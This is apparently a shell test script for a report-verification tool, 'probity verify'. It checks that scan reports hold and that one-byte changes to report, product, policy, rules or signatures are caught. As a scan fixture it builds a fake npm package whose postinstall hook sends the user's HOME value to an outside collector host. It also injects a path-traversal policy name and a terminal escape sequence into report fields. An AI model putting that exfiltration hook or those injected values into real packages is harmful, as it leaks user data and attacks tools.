# probity verify: reports that hold, and single bytes of report, product, policy and rules that do not.
. tests/tap.sh
cd "$scratch" || exit 1
verify() { run "$PROBITY" verify --database "$scratch/db" "$@"; }
first_line() { printf '%s\n' "${out%%$'\n'*}"; }
problems() { get 'sorted({p["part"] + " " + p["field"] for p in r["problems"]})'; }

mkdir -p twin/bin own
printf '{"name":"twin","version":"1.0.1","scripts":{"postinstall":"node index.js"},"dependencies":{"dep-b":"1"}}\n' >twin/package.json
printf "require('https').get('http://collect.vendor-host.net/v1?' + process.env.HOME);\n" >twin/index.js
cp /bin/true twin/bin/
tar --owner=0 --group=0 --mtime=@0 --sort=name -cf twin.tar twin
gzip -nk twin.tar
scan twin.tar.gz && printf '%s\n' "$out" >gz.json
scan twin.tar && printf '%s\n' "$out" >tar.json
scan twin && printf '%s\n' "$out" >folder.json
scan -p government twin.tar && printf '%s\n' "$out" >government.json

# --- what holds
for of in "gz.json twin.tar.gz" "tar.json twin.tar" "folder.json twin" "government.json twin.tar"; do
  verify "${of% *}"
  is "${of% *} alone holds" "$rc $err" "0 "
  like "... and says what was not looked at" "$out" "not looked at: what was found"
  verify "${of% *}" "${of#* }"
  is "${of% *} with its product holds" "$rc $err" "0 "
  like "... all of its evidence" "$out" "([0-9]+) of ([0-9]+) evidence records hold"
  is "... all" "$(grep -oE '[0-9]+ of [0-9]+ evidence' <<<"$out" | awk '{print ($1 == $3 && $1 > 3)}')" 1
done
verify -f json gz.json twin.tar.gz
is "as JSON" "$(get '[r["schema"], r["holds"], r["problems"], r["numbers"]["compared"] == r["numbers"]["hold"] > 1000, len(r["score"]) > 15]')" \
  '["probity-verify/1", true, [], true, true]'
verify --product twin.tar tar.json government.json
is "several reports of one product" "$rc $(grep -c HOLDS <<<"$out")" "0 2"
cat gz.json tar.json folder.json >three.json
verify -f json three.json
is "one report a line" "$rc $(grep -c '"holds":true' <<<"$out")" "0 3"
cp twin.tar renamed.tar
verify -f json tar.json renamed.tar
is "another name of the product is a difference" "$rc" 1
like "... named" "$(problems)" 'evidence findings\[.*evidence\[0\]"'
verify --name twin.tar tar.json renamed.tar
is "... unless it is said to have had the first one" "$rc" 0

# --- what does not
verify -f json tar.json twin.tar.gz
is "another product" "$rc" 1
like "... its digest is named" "$(problems)" "product product.sha256"
sed 's/"trust_tenths":[0-9]*/"trust_tenths":1000/' tar.json >better.json
verify -f json better.json
is "a better number" "$rc" 1
like "... is named" "$(problems)" 'score (score.trust_tenths|pillars)'
verify better.json
like "... with what it should be" "$out" "the report says: 1000"
/usr/bin/python3 -c 'import json; json.dump(json.load(open("tar.json")), open("spaced.json", "w"))'
verify -f json spaced.json
is "the same report in another form" "$rc $(problems)" '1 ["canonical "]'
/usr/bin/python3 - <<'P'
import json
def write(name, change):
    r = json.load(open("tar.json"))
    change(r)
    open(name, "w").write(json.dumps(r, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n")
write("excerpt.json", lambda r: r["findings"][0]["evidence"][0].update(excerpt="something else"))
write("says.json", lambda r: r["findings"][0].update(says="nothing to see"))
write("fewer.json", lambda r: r["findings"].pop())
write("extra.json", lambda r: r.update(extra=1))
write("path.json", lambda r: r["assessment"]["policy"].update(name="../../../../etc/passwd"))
write("escape.json", lambda r: r["product"].update(name="a\x1b[31m"))
P
verify -f json excerpt.json
is "an excerpt: the report alone cannot tell" "$rc" 0
verify -f json excerpt.json twin.tar
is "... with the product it is named" "$rc $(get '[p["part"] for p in r["problems"]]')" '1 ["product", "evidence"]'
like "... where" "$(problems)" 'evidence\[0\].excerpt'
verify -f json says.json twin.tar
is "a sentence" "$rc" 1
like "... is named" "$(problems)" '\]\.says"\]'
verify -f json fewer.json
is "a finding left out" "$rc" 1
like "... the check that failed is named" "$(get 'r["problems"][0]["says"]')" "failed without a finding"
verify -f json fewer.json twin.tar
like "... and, with the product, the finding" "$(problems)" '"product findings\['
verify -f json extra.json
is "an unknown field" "$rc $(problems)" '1 ["score extra"]'
verify -f json path.json twin.tar
is "a policy's name is never a path" "$rc $(problems)" '1 ["circumstance assessment.policy.name"]'
verify escape.json twin.tar
is "nothing in a report moves the cursor" "$rc ${out//[^$'\x1b']/}" "1 "

# --- rules, policy
cat >own/own.lua <<'L'
check {
  id = "integrity.own", title = "A check of one's own", pillar = "integrity", claim = "own", severity = "low",
  summary = "Says nothing.", remediation = "None.", reliability = "exact", maps = {}, needs = "any",
  finding = { x = "x" },
}
L
printf 'rule own_rule { strings: $a = "collect.vendor-host" condition: $a }\n' >own/own.yar
rm own/own.lua
verify -f json --rules own tar.json twin.tar
is "other rules" "$rc" 1
like "... are named" "$(problems)" 'circumstance assessment.rules_digest'
is "... the evidence is held against the product all the same" "$(get 'r["evidence"]["records"] == r["evidence"]["hold"] > 3')" true
is "... and what follows from other rules is counted" "$(get 'r["explained"] > 0')" true
cp "$here/rulesets/policies/business.ini" mine.ini
scan -p ./mine.ini twin.tar && printf '%s\n' "$out" >mine.json
verify -f json mine.json twin.tar
is "a policy that is not installed" "$rc $(problems)" '1 ["circumstance assessment.policy.name"]'
verify -p ./mine.ini mine.json twin.tar
is "... named, it holds" "$rc" 0
sed -i 's/^integrity = 1000/integrity = 1001/' mine.ini
verify -f json -p ./mine.ini mine.json twin.tar
is "a byte of the policy's file" "$rc" 1
like "... its digest is named" "$(problems)" 'circumstance assessment.policy.digest'

# --- signed
export HOME=$scratch/home
mkdir -p home trust
ok "a key" "$PROBITY" pack key new -W -s me.key -p me.pub
ok "... that is trusted as an assessor's" "$PROBITY" trust add me.pub --role assessor --trust "$scratch/trust" --name me
ok "a signed report" "$PROBITY" sign tar.json --key me.key -o signed.json
verify --trust trust signed.json twin.tar
is "holds, with its product" "$rc $err" "0 "
like "... by whom is told" "$out" "trust root me, role assessor"
verify -f json signed.json
is "nobody is trusted: it does not hold" "$rc" 1
like "... and that is named" "$(problems)" "signature signatures"
ok "another key" "$PROBITY" pack key new -W -s other.key -p other.pub
ok "... signs" "$PROBITY" sign tar.json --key other.key -o other.json
verify -f json --trust trust other.json
is "... and is nobody" "$rc" 1
like "... as named" "$(problems)" "signature signatures"
relay < <(timeout 300 /usr/bin/python3 "$here/tests/verify_envelopes.py" "$PROBITY" "$scratch/trust" signed.json 40 6)

# --- 200 mutations of one byte
relay < <(timeout 600 /usr/bin/python3 "$here/tests/verify_mutations.py" "$PROBITY" "$scratch/db" tar.json twin.tar 150 50 6)

# --- errors
status "no such report" 2 "$PROBITY" verify none.json
like "... is named" "$err" "none.json"
status "no such product" 2 "$PROBITY" verify --database "$scratch/db" tar.json none.tar
like "... is named" "$err" "none.tar"
: >empty.json
status "an empty report" 2 "$PROBITY" verify empty.json
verify -f json twin/index.js
is "no report at all" "$rc $(problems)" '1 ["form "]'
status "no report" 2 "$PROBITY" verify
status "three words" 2 "$PROBITY" verify a b c
like "... say what to do" "$err" "--product"
status "help" 0 "$PROBITY" verify --help
like "... says what the status means" "$out" "1 something does not"
done_testing
